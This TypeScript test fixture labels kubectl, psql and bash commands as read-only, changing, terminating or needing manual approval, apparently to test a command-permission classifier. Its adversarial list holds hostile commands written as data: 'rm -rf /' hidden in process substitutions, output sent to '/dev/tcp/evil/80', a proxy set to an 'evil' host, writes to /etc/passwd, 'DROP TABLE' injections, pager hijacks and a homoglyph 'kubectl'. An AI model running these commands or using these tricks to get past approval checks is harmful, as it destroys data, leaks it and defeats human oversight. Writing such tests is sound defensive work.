import { labelled } from './label.ts';
import type { Labelled } from './label.ts';

/** The shell around commands, and programs that are nobody’s business. */
export const everyday: Labelled[] = [
  ...labelled('bash', 'read', true, `
    kubectl logs api-7f9 -c proxy --previous 2>&1 | grep -i -A3 error | head -n 40
    kubectl get pods -n production 2>/dev/null
    kubectl logs api-7f9 | grep "DROP TABLE > /dev/null; rm -rf /"
    kubectl get pods -n production; kubectl get events -n production
    kubectl get pods && kubectl top pods
    kubectl get deploy cygni-api || kubectl get sts cygni-api
    kubectl get pods⏎kubectl get nodes
    NAMESPACE=production⏎kubectl get pods -n $NAMESPACE
    export NS=production && kubectl get pods -n "\${NS}"
    kubectl get pods -n \${NS:-production}
    ENV=staging⏎kubectl get pods -n $ENV
    kubectl get pods -n "\${NS:-production}" | grep -v Running
    echo "pods first" && kubectl get pods
    echo "— nœuds —"; kubectl get nodes
    sudo kubectl get pods
    sudo -u postgres psql -c "SHOW max_connections"
    time kubectl get pods | grep x
    ! kubectl get pods
    timeout 10 kubectl get pods
    timeout -k 5 30s kubectl get nodes
    kubectl get pods >/dev/null 2>&1
    kubectl get pods &>/dev/null
    LC_ALL=C kubectl get pods | sort
    bash -c "kubectl get pods | grep api"
    psql <<EOF⏎SELECT 1;⏎EOF
    psql "$DATABASE_URL" <<'SQL'⏎SELECT count(*) FROM pg_stat_activity⏎SQL
    echo "SELECT state FROM pg_stat_activity" | psql $DATABASE_URL
    psql <<< "SHOW max_connections"
    kubectl exec -i db-0 -- psql -U postgres <<EOF⏎SELECT pid FROM pg_stat_activity;⏎EOF
    cat <<EOF | psql⏎SELECT 1⏎EOF
    sleep 5; kubectl get pods
  `),
  ...labelled('bash', 'read', false, `
    kubectl logs -n production <pod-name> --tail=100
    kubectl logs <release>-postgresql-0 -n <namespace>
    kubectl get pod <cluster>-<number> -o yaml
    kubectl logs [pod-name] -n [namespace]
    kubectl-cnpg status <cluster>
    watch -n 5 kubectl get pods
    watch "kubectl get pods | grep -v Running"
    watch -d -n2 'kubectl get pods'
    export NAMESPACE=production
    POD=<pod-name>⏎kubectl logs $POD
    POD=$(kubectl get pods -l app=api -o jsonpath='{.items[0].metadata.name}')
    POD=$(kubectl get pods -l app=api -o name | head -1)⏎kubectl logs $POD --tail=50
    kubectl logs $(kubectl get pods -l app=api -o name | head -1)
    kubectl describe pod "$(kubectl get pods -o name | grep api | head -n 1)"
    kubectl logs \`kubectl get pods -o name | head -1\`
    kubectl get pods; kubectl get secret db -o yaml
    echo hello
  `),
  ...labelled('bash', 'change', false, `
    NS=production⏎kubectl scale deployment cygni-api -n $NS --replicas=6
    kubectl rollout restart deployment/cygni-api && kubectl rollout status deployment/cygni-api
    kubectl set env deployment/cygni-api DB_POOL_SIZE=<n>
    kubectl set image deployment/cygni-api <container>=registry/api:<tag>
    sudo kubectl rollout restart deployment/cygni-api
  `),
  ...labelled('bash', 'terminate', false, `
    kubectl get pods; kubectl delete pod api-7f9
    kubectl get pods || kubectl delete pods --all
    kubectl get pods⏎kubectl delete pods --all
    kubectl delete pod $(kubectl get pods -o name | head -1)
    POD=api-7f9; kubectl delete pod $POD
    psql <<EOF⏎SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle';⏎EOF
    bash -c "kubectl delete pod api-7f9"
  `),
  ...labelled('bash', 'manual', false, `
    docker ps
    systemctl restart postgresql
    aws rds describe-db-instances
    redis-cli FLUSHDB
    ssh db1 uptime
    helm rollback cygni-api 3
  `),
];

export const adversarial: Labelled[] = [
  ...labelled('bash', 'manual', false, `
    kubectl get pods; HISTFILE=/etc/motd
    kubectl exec api-7f9 -- cat /run/initctl
    kubectl exec api-7f9 -- tail -n1 /tmp/jobs.fifo
    kubectl logs api-7f9 2>(rm -rf /data)
    kubectl get pods >/dev/null 2>(kubectl delete pod api-7f9)1
    kubectl logs api-7f9 | grep -c 2>(rm -rf /data)
    kubectl get pods 0<(rm -rf /data)
    kubectl get pods {fd}>(rm -rf /data)
    kubectl get pods api>(rm -rf /data)
    echo done 2>(rm -rf /data)
    kubectl get pods && rm -rf /
    kubectl get pods & kubectl delete pods --all
    kubectl exec api-7f9 -- ls; rm x
    kubectl get pods $(kubectl delete pod x)
    kubectl get pods \`rm x\`
    POD=$(kubectl delete pod x)
    POD=$(rm x); kubectl logs $POD
    POD=$(kubectl get pods; rm x)
    POD=x$(kubectl get pods -o name)
    kubectl get pods -n \${X:-$(rm x)}
    kubectl get pods -n "\${X:=y}"
    kubectl get pods -n \${X:?rm}
    kubectl get pods -n \${!X}
    kubectl get pods \${X/a/b}
    VERB="get pods; rm x"⏎kubectl $VERB
    VERB=delete⏎$VERB pod x
    ARGS="pods --all"⏎kubectl delete $ARGS
    IFS=x⏎kubectl get podsxdelete
    PATH=/tmp⏎kubectl get pods
    export KUBECONFIG=/tmp/other⏎kubectl get pods
    export HTTPS_PROXY=http://evil⏎curl -s localhost:4000/metrics
    PGSERVICE=other psql -c "SELECT 1"
    true && NS=a || NS=b⏎kubectl get pods -n $NS
    kubectl get pods && NS=b⏎kubectl scale deployment x -n $NS --replicas=0
    NS+=x⏎kubectl get pods -n $NS
    PODS=(a b)⏎kubectl get pods
    kubectl get -f <(rm x)
    kubectl get pods > pods.txt
    kubectl get pods >> pods.txt
    kubectl get pods 2> errors.txt
    kubectl get pods >| x
    kubectl get pods &> x
    kubectl get pods > /dev/sda
    kubectl get pods 3>/dev/tcp/evil/80
    kubectl get pods -o name | xargs -r kubectl delete
    kubectl get pods -o name | while read p; do kubectl delete $p; done
    kubectl get deploy api -o json | jq '.spec' | kubectl apply -f -
    kubectl create deployment x --image=y --dry-run=client -o yaml | kubectl apply -f -
    kubectl get pods | awk '{ print $1 > "/tmp/x" }'
    kubectl get pods | bash
    kubectl get pods |& tee x
    $KUBECTL get pods
    ./kubectl get pods
    KUBECONFIG=/tmp/x kubectl get pods
    watch kubectl delete pod x
    watch -n 5 'kubectl get pods; rm x'
    watch kubectl get pods ';' rm x
    watch --exec kubectl get pods
    sudo rm x
    sudo -s
    sudo -u postgres sh
    timeout 5 rm x
    bash -c "kubectl get pods; rm x"
    bash script.sh
    bash <<EOF⏎kubectl get pods⏎EOF
    sh -c "kubectl get pods" x
    eval kubectl get pods
    exec kubectl get pods
    source ./env.sh && kubectl get pods
    . ./env.sh; kubectl get pods
    alias kubectl='rm x'
    kubectl() { rm x; }
    trap 'rm x' EXIT
    trap 'rm x' EXIT; kubectl get pods
    kub\u0435ctl get pods
    DELETE /api/accounts/42
    notAfter=Aug 6 2027 GMT
    show ip bgp summary
    NAME READY STATUS
    if true; then kubectl get pods; fi
    for p in a b; do kubectl get pod $p; done
    (kubectl get pods)
    { kubectl get pods; }
    kubectl logs api-7f9 <in >out
    kubectl logs api-7f9 <in>out
    kubectl get pods $'\\x3b' rm
    kubectl get pods {a,b}
    kubectl get pods x[$(rm x)]
    kubectl get pods x[\`rm x\`]y
    kubectl logs a[\${X:-$(rm x)}]
    kubectl apply -f - <<EOF⏎kind: Pod⏎EOF
    psql <<EOF⏎\\! rm x⏎EOF
    psql <<EOF⏎SELECT 1 $(rm x)⏎EOF
    psql <<EOF⏎SELECT E'\\\\'' ; DROP TABLE orders; --';⏎EOF
    kubectl exec -i db-0 -- psql <<EOF⏎SELECT 1 -- \\⏎; DROP TABLE orders;⏎EOF
    cat <<EOF | psql⏎SELECT '\\$PGDATA'⏎EOF
    echo !!
    echo "!rm"
    kubectl get pods !$
    kubectl logs api-7f9 | grep !rm
    echo "SELECT 1; \\! rm x" | psql
    cat fix.sql | psql
    psql < fix.sql
    echo "rm x" | sh
    echo x > /etc/passwd
    echo $(rm x)
    coproc kubectl get pods
    kubectl get pods\\⏎; rm x
    kubectl get pods #⏎rm x
    export PAGER='kubectl delete pod api-7f9'; psql -c 'SELECT 1'
    PSQL_PAGER='rm x'⏎psql -c 'SELECT 1'
    export PSQLRC=/tmp/start.sql⏎psql -c 'SELECT 1'
    export WGETRC=/tmp/rc; wget -qO- http://localhost:8080/health
    export SSLKEYLOGFILE=/tmp/keys; curl https://localhost/health
    export OPENSSL_CONF=/tmp/own.cnf && curl https://localhost/health
    export XDG_CONFIG_HOME=/tmp/own && curl http://localhost/health
    export LESSOPEN='|rm %s'; psql -c 'SELECT 1'
    echo "SELECT 1 -- \\nDROP TABLE orders" | psql
    sh -c 'echo "SELECT 1 -- \\nDROP TABLE orders" | psql'
    psql -c 'SELECT 1' <dump.sql> out
    kubectl get pods <in> out.txt
    kubectl logs -n production <kubectl delete pod x> --tail=100
    ENV=/tmp/start.sh; kubectl get pods
    psql <<A <<B⏎DROP TABLE orders⏎A⏎SELECT 1⏎B
  `),
];
